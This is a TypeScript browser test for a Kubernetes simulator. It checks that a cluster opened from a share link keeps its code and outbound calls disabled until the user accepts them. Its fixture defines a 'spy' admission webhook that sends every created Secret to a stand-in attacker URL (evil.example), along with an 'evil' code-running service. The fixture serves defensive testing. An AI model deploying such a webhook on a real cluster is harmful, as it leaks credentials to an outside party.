import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shareHash } from '../../../src/ui/state/share-link.ts';
import { askCluster, killWorkers, visitApp } from '../../browser/browser.ts';

/** A cluster with every object that runs code or calls another server, as the author of a link would write it. */
const clusterThatCalls = (address: string): string => `apiVersion: v1
kind: ConfigMap
metadata: { name: code, namespace: default }
data:
  handler.js: 'export default () => ({ status: 200, body: { ran: true } });'
---
apiVersion: v1
kind: Service
metadata: { name: evil, namespace: default, annotations: { tabplane.dev/local-service: code } }
spec: { ports: [{ port: 80 }] }
---
apiVersion: apiregistration.k8s.io/v1
kind: APIService
metadata: { name: v1.evil.example.com }
spec:
  { group: evil.example.com, version: v1, groupPriorityMinimum: 1000, versionPriority: 10, insecureSkipTLSVerify: true, service: { namespace: default, name: evil, port: 80 } }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: spy }
webhooks:
  - name: spy.example.com
    clientConfig: { url: '${address}/spy' }
    rules: [{ apiGroups: [''], apiVersions: [v1], operations: [CREATE], resources: [secrets] }]
    failurePolicy: Ignore
    sideEffects: None
    admissionReviewVersions: [v1]
`;

describe('a cluster that came from a link', () => {
  const visit = visitApp({ hasSample: false });
  const calls: string[] = [];
  const server = createServer((request, response) => {
    calls.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('access-control-allow-headers', '*');
    response.end('{}');
  });
  let link: string;
  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
    const yaml = clusterThatCalls(`https://localhost:${(server.address() as AddressInfo).port}`);
    link = `${visit.url}/${await shareHash({ name: 'Gift', dialect: 'kubernetes', yaml })}`;
  });
  afterAll(() => void server.close());

  const consent = () => visit.page.getByRole('region', { name: 'Consent' });
  const codeAnswers = async () => {
    const answer = await askCluster(visit.page, '/api/v1/namespaces/default/services/evil:80/proxy/');
    return [answer.httpStatus, answer.ran ?? answer.message];
  };
  const DISABLED = [503, expect.stringMatching(/came from a link or a file: .* stay disabled until you accept them/)];

  it('stores nothing before the user agrees to create it', async () => {
    await visit.page.goto('about:blank');
    await visit.page.goto(link);
    await visit.page.getByRole('dialog').getByText('They stay disabled until').waitFor();
    expect((await askCluster(visit.page, '/api/v1/namespaces/default/services/evil')).httpStatus).toBe(404);
  });

  it('shows that it came from a link, and lists the code and calls that would run', async () => {
    await visit.page.getByRole('dialog').getByRole('button', { name: 'Create cluster' }).click();
    await visit.page.getByText('Imported 4 objects').waitFor();
    for (const text of [
      /“Gift” came from a link or a file. Its code and calls to other servers are disabled./,
      'Local service default/evil runs its code in the sandbox',
      /Webhook spy.example.com sends objects to https:\/\/localhost:\d+\/spy/,
      'API v1.evil.example.com proxies requests to the service default/evil',
    ])
      await consent().getByText(text).waitFor();
  });

  it('runs no code and sends no requests before it is accepted', async () => {
    expect(await codeAnswers()).toEqual(DISABLED);
    expect(await visit.page.evaluate(async () => (await fetch('/apis/evil.example.com/v1')).status)).not.toBe(200);
    const secret = JSON.stringify({ metadata: { name: 'planted' }, stringData: { password: 'hunter2' } });
    const created = await askCluster(visit.page, '/api/v1/namespaces/default/secrets', {
      method: 'POST',
      body: secret,
    });
    expect(created.httpStatus).toBe(201);
    expect(calls).toEqual([]);
  });

  it('stays disabled when the page is reloaded and the worker is stopped', async () => {
    await killWorkers(visit.context, visit.page);
    await visit.page.reload();
    await consent().getByText('Local service default/evil').waitFor();
    expect(await codeAnswers()).toEqual(DISABLED);
  });

  it('still shows that it came from a link when the user keeps it disabled', async () => {
    await consent().getByRole('button', { name: 'Keep disabled' }).click();
    await consent().getByText('came from a link').waitFor();
    expect(await codeAnswers()).toEqual(DISABLED);
    await consent().getByRole('button', { name: 'Review' }).click();
  });

  it('runs its code once it is accepted, even after a reload', async () => {
    await consent().getByRole('button', { name: 'Accept' }).click();
    await consent().waitFor({ state: 'detached' });
    await expect.poll(codeAnswers).toEqual([200, true]);
    await visit.page.reload();
    await visit.page.getByRole('button', { name: /^Cluster: Gift/ }).waitFor();
    expect(await consent().count()).toBe(0);
    expect(await codeAnswers()).toEqual([200, true]);
  });

  it('differs from imported files, for which the import page names code and calls beforehand', async () => {
    await visit.page.goto(`${visit.url}/import`);
    await visit.page.getByRole('textbox', { name: 'YAML to import' }).fill(clusterThatCalls('https://evil.example'));
    const notice = visit.page.getByText('If you import these objects, code runs or calls are sent');
    await notice.waitFor();
    await visit.page.getByText('Webhook spy.example.com sends objects to https://evil.example/spy').waitFor();
  });
});
